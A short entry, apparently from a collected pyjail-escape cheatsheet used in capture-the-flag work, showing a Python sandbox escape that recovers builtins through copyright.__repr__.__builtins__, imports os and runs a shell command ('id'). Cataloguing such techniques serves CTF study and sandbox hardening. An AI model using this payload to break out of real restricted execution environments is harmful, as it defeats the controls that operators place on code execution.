# Source: github.com/Shirajuki/shirajuki.github.io src/routes/blog/pyjail-cheatsheet.md (license.__repr__.__globals__['sys'])
# Family: builtins-side-door
# What: copyright.__repr__.__builtins__ restores builtins
b = copyright.__repr__.__builtins__
b["__import__"]("os").system("id")
